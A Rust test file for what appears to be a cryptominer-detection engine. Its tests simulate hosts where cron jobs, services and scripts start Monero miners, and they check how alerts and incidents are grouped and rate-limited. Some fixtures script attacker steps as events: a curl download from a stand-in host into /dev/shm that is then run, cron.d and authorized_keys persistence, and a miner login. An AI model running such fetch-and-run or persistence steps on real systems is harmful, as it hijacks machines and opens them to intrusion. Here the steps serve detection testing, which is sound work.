//! Who is named, when, and how often: suspects, returns and budgets.

use std::collections::BTreeSet;

use crate::{
    engine::{Engine, EngineSettings},
    model::{
        Alert, AlertAction, AlertReason, BootTime, Effect, EventKind, IncidentId, MemberRole, ProcessKey,
        Verdict, Wanted,
    },
    testing::{Host, alerts_over_time, seconds, story},
};

/// A host whose engine ticks once a second, as the daemon's does.
struct Watched {
    host: Host,
    init: ProcessKey,
}

impl Watched {
    fn new() -> Self {
        let mut host = Host::new();
        let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        Self { host, init }
    }

    /// Runs an engine over all events, up to two minutes after the last one.
    fn run(&self) -> Vec<Alert> {
        self.run_with(EngineSettings { processors: 2, ..EngineSettings::default() })
    }

    fn run_with(&self, settings: EngineSettings) -> Vec<Alert> {
        alerts_over_time(&self.host, settings)
    }
}

/// Lets a process log in to a pool for an account.
fn mine(host: &mut Host, key: ProcessKey, pool: &str, account: &str) {
    host.connect(key, pool);
    let login = format!(
        r#"{{"id":1,"jsonrpc":"2.0","method":"login","params":{{"login":"{account}","pass":"x","agent":"XMRig/6.21"}}}}"#
    );
    host.send(key, pool, login + "\n");
}

/// Returns a made-up Monero address.
fn wallet(number: usize) -> String {
    let letters: String =
        format!("{number:04}").bytes().map(|digit| char::from(digit - b'0' + b'a')).collect();
    format!("4{}", format!("A{letters}2").repeat(16).chars().take(94).collect::<String>())
}

/// Lets cron start the same miner that many times. Each lives for `life` seconds, with a pause before the next.
fn cron_runs(day: &mut Watched, cron: ProcessKey, times: usize, life: u64, pause: u64) {
    for _ in 0..times {
        let shell = day.host.spawn(cron, "/usr/bin/dash", &["sh", "-c", "/usr/local/bin/update"]);
        let miner = day.host.spawn(shell, "/usr/local/bin/update", &["update"]);
        mine(&mut day.host, miner, "203.0.113.5:443", &wallet(1));
        day.host.wait(seconds(life));
        day.host.exit(miner);
        day.host.exit(shell);
        day.host.wait(seconds(pause));
    }
}

fn incidents(alerts: &[Alert]) -> BTreeSet<IncidentId> {
    alerts.iter().map(|alert| alert.incident).collect()
}

fn count(alerts: &[Alert], action: AlertAction) -> usize {
    alerts.iter().filter(|alert| alert.action == action).count()
}

/// Returns the names of all suspects that an alert lists with at least this verdict.
fn named(alerts: &[Alert], verdict: Verdict) -> BTreeSet<String> {
    let suspects = alerts.iter().flat_map(|alert| &alert.suspects);
    let named = suspects.filter(|suspect| suspect.verdict >= Some(verdict));
    named.map(|suspect| suspect.process.name.to_string()).collect()
}

/// Returns the time of the first alert that lists this process as mining.
fn told(alerts: &[Alert], key: ProcessKey) -> Option<BootTime> {
    let lists = |alert: &&Alert| {
        alert
            .suspects
            .iter()
            .any(|suspect| suspect.process.key == key && suspect.verdict == Some(Verdict::Mining))
    };
    alerts.iter().find(lists).map(|alert| alert.time)
}

/// Returns the largest number of alerts within any minute, from `start` on.
fn most_in_a_minute(alerts: &[Alert], start: BootTime) -> usize {
    let times: Vec<BootTime> = alerts.iter().map(|alert| alert.time).filter(|time| *time >= start).collect();
    let within =
        |from: BootTime| times.iter().filter(|time| **time >= from && time.since(from) < seconds(60)).count();
    times.iter().map(|from| within(*from)).max().unwrap_or(0)
}

#[test]
fn a_miner_that_comes_back_is_told_each_time_in_one_incident() {
    let mut day = Watched::new();
    let cron = day.host.spawn(day.init, "/usr/sbin/cron", &["cron"]);
    cron_runs(&mut day, cron, 6, 600, 300);
    let alerts = day.run();
    assert_eq!(incidents(&alerts).len(), 1, "{}", story(&alerts));
    assert_eq!(count(&alerts, AlertAction::IncidentOpened), 1);
    let returns: Vec<u64> = alerts
        .iter()
        .filter(|alert| alert.reason == AlertReason::Returned)
        .map(|alert| alert.suspects[0].returns)
        .collect();
    assert_eq!(returns, [1, 2, 3, 4, 5], "{}", story(&alerts));
    let pids: BTreeSet<u32> = alerts.iter().map(|alert| alert.suspect.key.pid).collect();
    assert_eq!(pids.len(), 6, "each process is the subject of an alert");
    assert!(alerts.iter().all(|alert| alert.suspects[0].alive));
}

#[test]
fn a_service_that_runs_other_miners_on_later_days_is_told_of_each() {
    let mut day = Watched::new();
    let node = day.host.spawn(day.init, "/usr/bin/node", &["node", "server.js"]);
    let mut miners = Vec::new();
    for (number, pool) in
        ["203.0.113.5:3333", "198.51.100.7:443", "192.0.2.9:14444", "192.0.2.77:80"].into_iter().enumerate()
    {
        let shell = day.host.spawn(node, "/usr/bin/dash", &["sh", "-c", "x"]);
        let path = format!("/var/tmp/miner{number}");
        day.host.create(shell, &path, 0o755);
        let miner = day.host.spawn(shell, &path, &[&path]);
        mine(&mut day.host, miner, pool, &wallet(number));
        miners.push((miner, day.host.now()));
        day.host.wait(seconds(86_400));
    }
    let alerts = day.run();
    for (miner, at) in miners {
        let told = told(&alerts, miner).unwrap_or_else(|| panic!("{miner}: {}", story(&alerts)));
        assert!(told.since(at) <= seconds(3), "{miner}");
    }
}

#[test]
fn the_destination_is_the_suspects_own() {
    let mut day = Watched::new();
    let script = day.host.spawn(day.init, "/usr/bin/dash", &["sh", "/srv/start.sh"]);
    let web = day.host.spawn(script, "/usr/bin/web", &["web"]);
    day.host.connect(web, "10.0.0.9:5432");
    // The database's port is one that pools use too.
    day.host.connect(web, "10.0.0.9:3333");
    for number in 0..20 {
        day.host.connect(web, &format!("10.0.1.{number}:443"));
    }
    let miner = day.host.spawn(script, "/usr/bin/worker", &["worker"]);
    mine(&mut day.host, miner, "203.0.113.5:8080", &wallet(1));
    let alerts = day.run();
    let last = alerts.last().expect("an alert");
    assert_eq!(
        last.destination.as_ref().map(|peer| peer.address.to_string()).as_deref(),
        Some("203.0.113.5:8080")
    );
    assert_eq!(last.suspect.key, miner);
    assert!(last.chain.iter().any(|edge| edge.object == "203.0.113.5:8080"), "{}", story(&alerts));
    assert_eq!(named(&alerts, Verdict::Noted), BTreeSet::from(["worker".to_owned()]), "{}", story(&alerts));
}

#[test]
fn twelve_miners_of_one_script_are_all_named() {
    let mut day = Watched::new();
    let script = day.host.spawn(day.init, "/usr/bin/bash", &["bash", "/srv/run.sh"]);
    let mut names = BTreeSet::new();
    for number in 0..12 {
        let path = format!("/usr/local/lib/m{number}");
        let miner = day.host.spawn(script, &path, &[&path]);
        mine(&mut day.host, miner, "203.0.113.5:3333", &wallet(1));
        names.insert(format!("m{number}"));
        day.host.wait(seconds(1));
    }
    let alerts = day.run();
    assert_eq!(incidents(&alerts).len(), 1);
    assert_eq!(named(&alerts, Verdict::Mining), names, "{}", story(&alerts));
    assert!(alerts.len() <= 6, "a burst and a digest: {}", alerts.len());
    assert!(alerts.last().expect("alerts").message.contains("more suspects"));
}

#[test]
fn fifty_miners_of_one_service_are_all_named_within_a_minute() {
    for shares_a_pool in [true, false] {
        let mut day = Watched::new();
        let java = day.host.spawn(day.init, "/usr/bin/java", &["java", "-jar", "app.jar"]);
        day.host.become_user(java, 33);
        let mut miners = Vec::new();
        for number in 0..50 {
            let path = format!("/opt/app/lib/m{number}");
            let shell = day.host.spawn(java, "/usr/bin/dash", &["sh", "-c", &path]);
            let miner = day.host.spawn(shell, &path, &[&path]);
            let pool = if shares_a_pool { 5 } else { number + 10 };
            mine(&mut day.host, miner, &format!("203.0.113.{pool}:3333"), &wallet(number));
            miners.push((miner, day.host.now()));
            day.host.wait(seconds(2));
        }
        let alerts = day.run();
        for (miner, at) in miners {
            let told = told(&alerts, miner).unwrap_or_else(|| panic!("{miner} of {shares_a_pool}"));
            assert!(told.since(at) <= seconds(61), "{miner} of {shares_a_pool}: {:?}", told.since(at));
        }
        assert_eq!(count(&alerts, AlertAction::IncidentOpened), 1, "one service, one case");
    }
}

#[test]
fn a_miner_restarted_twenty_times_sends_one_alert_a_minute_after_the_burst() {
    let mut day = Watched::new();
    let watchdog = day.host.spawn(day.init, "/usr/bin/bash", &["bash", "/srv/watchdog.sh"]);
    for _ in 0..20 {
        let miner = day.host.spawn(watchdog, "/srv/miner", &["/srv/miner"]);
        mine(&mut day.host, miner, "203.0.113.5:3333", &wallet(1));
        day.host.wait(seconds(7));
        day.host.exit(miner);
        day.host.wait(seconds(3));
    }
    let alerts = day.run();
    assert_eq!(incidents(&alerts).len(), 1);
    let burst = alerts[4].time;
    assert!(most_in_a_minute(&alerts, burst.plus(seconds(1))) <= 1, "{}", story(&alerts));
    let last = alerts.last().expect("alerts");
    assert_eq!((last.suspects[0].processes, last.suspects[0].returns), (20, 19));
    assert!(last.message.contains("is back (19 times)"), "{}", last.message);
}

#[test]
fn a_miner_that_cron_starts_each_minute_for_a_day_is_one_incident_with_few_alerts() {
    let mut day = Watched::new();
    let cron = day.host.spawn(day.init, "/usr/sbin/cron", &["cron"]);
    let start = day.host.now();
    cron_runs(&mut day, cron, 24 * 60, 40, 19);
    let alerts = day.run();
    assert_eq!(incidents(&alerts).len(), 1);
    assert!(alerts.len() <= 60, "{} alerts", alerts.len());
    let last = alerts.last().expect("alerts");
    assert!(last.time.since(start) > seconds(23 * 3_600), "it is still told of at the end of the day");
    assert!(last.suspects[0].processes > 1_000);
}

#[test]
fn a_user_who_starts_miners_in_a_loop_causes_few_alerts_and_hides_nobody() {
    for other_programs in [false, true] {
        let mut day = Watched::new();
        let cron = day.host.spawn(day.init, "/usr/sbin/cron", &["cron"]);
        let user = day.host.fork(cron);
        day.host.become_user(user, 1_000);
        for number in 0..3_000 {
            // A tree of its own each time.
            let path = if other_programs { format!("/home/me/m{number}") } else { "/home/me/m".to_owned() };
            let miner = day.host.fork(user);
            let other = if other_programs { number } else { 0 };
            let (pool, account) = (format!("10.{}.{}.9:3333", other / 200, other % 200), wallet(other));
            let arguments = [path.as_str(), "-o", &pool, "-u", &account];
            day.host.exec(miner, cron, &path, &path, &arguments);
            day.host.exit(miner);
        }
        let real = day.host.spawn(cron, "/usr/local/bin/real", &["real"]);
        mine(&mut day.host, real, "198.51.100.1:443", &wallet(9_999));
        let at = day.host.now();
        let alerts = day.run();
        let told = told(&alerts, real).expect("the real miner is named");
        assert!(told.since(at) <= seconds(1), "{:?}", told.since(at));
        assert!(alerts.len() <= 60, "{} alerts of {other_programs}", alerts.len());
        if other_programs {
            let storm = alerts.iter().find(|alert| alert.action == AlertAction::AlertStorm).expect("a storm");
            assert!(storm.message.contains("uid 1000"), "{}", storm.message);
            let evicted: Vec<_> =
                alerts.iter().filter(|alert| alert.reason == AlertReason::Evicted).collect();
            assert!(evicted.iter().all(|alert| alert.incident.origin != real), "{}", story(&alerts));
        }
    }
}

#[test]
fn many_small_findings_of_a_user_take_nothing_from_another_tree_of_that_user() {
    let mut day = Watched::new();
    let cron = day.host.spawn(day.init, "/usr/sbin/cron", &["cron"]);
    for number in 0..60 {
        let shell = day.host.spawn(cron, "/usr/bin/dash", &["sh", "-c", "x"]);
        let path = format!("/tmp/job{number}");
        day.host.create(shell, &path, 0o755);
        let job = day.host.spawn(shell, &path, &[&path]);
        day.host.exit(job);
        day.host.exit(shell);
    }
    let shell = day.host.spawn(cron, "/usr/bin/dash", &["sh", "-c", "x"]);
    day.host.create(shell, "/root/.ssh/authorized_keys", 0o600);
    let mut engine = Engine::new(EngineSettings { processors: 2, ..EngineSettings::default() });
    for event in day.host.events() {
        engine.ingest(event, Wanted::No, &mut Vec::new());
    }
    let states = engine.incidents(None);
    let has_key = |alert: &Alert| alert.signals.iter().any(|signal| &*signal.id.0 == "B7");
    let (key, _) = states.iter().find(|(alert, _)| has_key(alert)).expect("its finding is kept");
    assert_eq!(key.suspect.key, shell);
    assert!(key.persistence.iter().any(|path| path.ends_with("authorized_keys")), "{:?}", key.persistence);
    assert!(!key.chain.iter().any(|edge| edge.object.contains("/tmp/job")), "the jobs are unrelated");
}

#[test]
fn an_evicted_incident_is_said_to_be_evicted() {
    let mut day = Watched::new();
    for number in 0..4 {
        let path = format!("/srv/m{number}");
        let miner = day.host.spawn(day.init, &path, &[&path]);
        day.host.become_user(miner, number);
        mine(&mut day.host, miner, &format!("203.0.113.{number}:3333"), &wallet(number as usize));
        day.host.wait(seconds(10));
    }
    let alerts = day.run_with(EngineSettings { max_incidents: 3, ..EngineSettings::default() });
    let closed: Vec<_> = alerts.iter().filter(|alert| alert.action == AlertAction::IncidentClosed).collect();
    assert_eq!(closed.len(), 1);
    assert_eq!(closed[0].reason, AlertReason::Evicted);
    assert!(closed[0].message.ends_with("evicted to make room for others"), "{}", closed[0].message);
}

#[test]
fn what_follows_within_two_seconds_joins_one_update() {
    let mut day = Watched::new();
    let miner =
        day.host.spawn(day.init, "/srv/xmrig", &["xmrig", "-o", "203.0.113.5:3333", "-u", &wallet(1)]);
    mine(&mut day.host, miner, "203.0.113.5:3333", &wallet(1));
    day.host.receive(
        miner,
        "203.0.113.5:3333",
        format!(
            "{{\"jsonrpc\":\"2.0\",\"method\":\"job\",\"params\":{{\"blob\":\"{}\",\"job_id\":\"1\",\"target\":\"b88d0600\"}}}}\n",
            "0e".repeat(76)
        ),
    );
    day.host.create(miner, "/etc/cron.d/x", 0o644);
    let alerts = day.run();
    assert_eq!(alerts.len(), 2, "{}", story(&alerts));
    let span = alerts[1].time.since(alerts[0].time);
    assert!(span >= seconds(2) && span < seconds(4), "{span:?}");
    let ids: Vec<_> = alerts[1].signals.iter().map(|signal| signal.id.to_string()).collect();
    assert!(["B9", "N1", "B7"].iter().all(|id| ids.iter().any(|known| known == id)), "{ids:?}");
}

#[test]
fn who_shares_a_parent_with_a_miner_is_a_bystander() {
    let mut day = Watched::new();
    let runner = day.host.spawn(day.init, "/usr/bin/dash", &["sh", "/srv/all.sh"]);
    let good = day.host.spawn(runner, "/srv/good", &["/srv/good"]);
    let installer = day.host.spawn(runner, "/usr/bin/dash", &["sh", "/srv/bad.sh"]);
    let curl =
        day.host.spawn(installer, "/usr/bin/curl", &["curl", "-o", "/dev/shm/x", "http://192.0.2.1/x"]);
    day.host.connect(curl, "192.0.2.1:80");
    day.host.create(curl, "/dev/shm/x", 0o755);
    let bad = day.host.spawn(installer, "/dev/shm/x", &["/dev/shm/x"]);
    mine(&mut day.host, bad, "203.0.113.5:3333", &wallet(1));
    day.host.create(installer, "/etc/cron.d/x", 0o644);
    day.host.connect(good, "10.0.0.9:5432");
    day.host.connect(good, "10.0.0.9:3333");
    day.host.burn(good, 2.0, 400);
    let alerts = day.run();
    assert!(!named(&alerts, Verdict::Noted).contains("good"), "{}", story(&alerts));
    assert!(alerts.iter().all(|alert| alert.suspect.key != good));
    let roles = |key| {
        let members = alerts.iter().flat_map(|alert| &alert.members);
        members.filter(|member| member.process == key).map(|member| member.role).collect::<BTreeSet<_>>()
    };
    assert!(roles(bad).contains(&MemberRole::Suspect));
    assert!(roles(curl).contains(&MemberRole::Dropper), "{}", story(&alerts));
    assert!(roles(good).iter().all(|role| *role == MemberRole::Bystander));
}

#[test]
fn a_weak_signal_opens_nothing_but_counts_later() {
    let mut day = Watched::new();
    let worker = day.host.spawn(day.init, "/usr/bin/worker", &["worker"]);
    day.host.connect(worker, "203.0.113.5:3333");
    day.host.burn(worker, 2.0, 400);
    assert!(day.run().is_empty());
    mine(&mut day.host, worker, "203.0.113.5:3333", &wallet(1));
    let alerts = day.run();
    let ids: Vec<_> = alerts[0].signals.iter().map(|signal| signal.id.to_string()).collect();
    assert!(["N1", "N4", "C5"].iter().all(|id| ids.iter().any(|known| known == id)), "{ids:?}");
}

#[test]
fn the_same_program_in_another_tree_is_a_return_of_the_same_suspect() {
    let mut day = Watched::new();
    let one = day.host.spawn(day.init, "/opt/tool/agent", &["agent"]);
    mine(&mut day.host, one, "203.0.113.5:3333", &wallet(1));
    day.host.exit(one);
    day.host.wait(seconds(120));
    // Another pool and another account, so that only the program is the same. It need not mine yet.
    let two = day.host.spawn(day.init, "/opt/tool/agent", &["agent", "--other"]);
    let at = day.host.now();
    day.host.wait(seconds(60));
    mine(&mut day.host, two, "198.51.100.5:443", &wallet(2));
    let alerts = day.run();
    assert_eq!(incidents(&alerts).len(), 1, "{}", story(&alerts));
    let back = alerts.iter().find(|alert| alert.reason == AlertReason::Returned).expect("it is back");
    assert!(back.suspect.key == two && back.time.since(at) <= seconds(1));
    let new = [AlertReason::NewAccount, AlertReason::NewPeer];
    assert!(alerts.iter().any(|alert| new.contains(&alert.reason)), "{}", story(&alerts));
}

/// An output may want the events of reported incidents only: those of the miner from its alert on, and of nobody else.
#[test]
fn events_of_a_reported_incident_are_observed() {
    let mut watched = Watched::new();
    let miner = watched.host.spawn(watched.init, "/tmp/x", &["x"]);
    let other = watched.host.spawn(watched.init, "/usr/bin/curl", &["curl"]);
    watched.host.connect(miner, "10.0.0.9:80");
    mine(
        &mut watched.host,
        miner,
        "10.0.0.5:3333",
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
    );
    watched.host.wait(seconds(2));
    watched.host.connect(other, "10.0.0.9:80");
    watched.host.connect(miner, "10.0.0.8:80");
    watched.host.exit(miner);
    let mut engine = Engine::new(EngineSettings::default());
    let (mut effects, mut observed, mut reported) = (Vec::new(), Vec::new(), None);
    for event in watched.host.events() {
        engine.ingest(event, Wanted::OfIncident, &mut effects);
        for effect in effects.drain(..) {
            match effect {
                Effect::Observed(observation) => {
                    observed.push((event.subject.key, event.body.kind(), observation.incident));
                }
                Effect::Alert(alert) => reported = Some(alert.incident),
                Effect::Request(_) | Effect::Confirmed(_) => {}
            }
        }
    }
    assert!(reported.is_some());
    assert!(observed.iter().all(|(key, _, incident)| *key == miner && *incident == reported), "{observed:?}");
    let kinds: Vec<EventKind> = observed.iter().map(|(_, kind, _)| *kind).collect();
    assert!(kinds.ends_with(&[EventKind::Connect, EventKind::Exit]), "{kinds:?}");
    assert!(!kinds.contains(&EventKind::Exec), "that was before the alert: {kinds:?}");
}
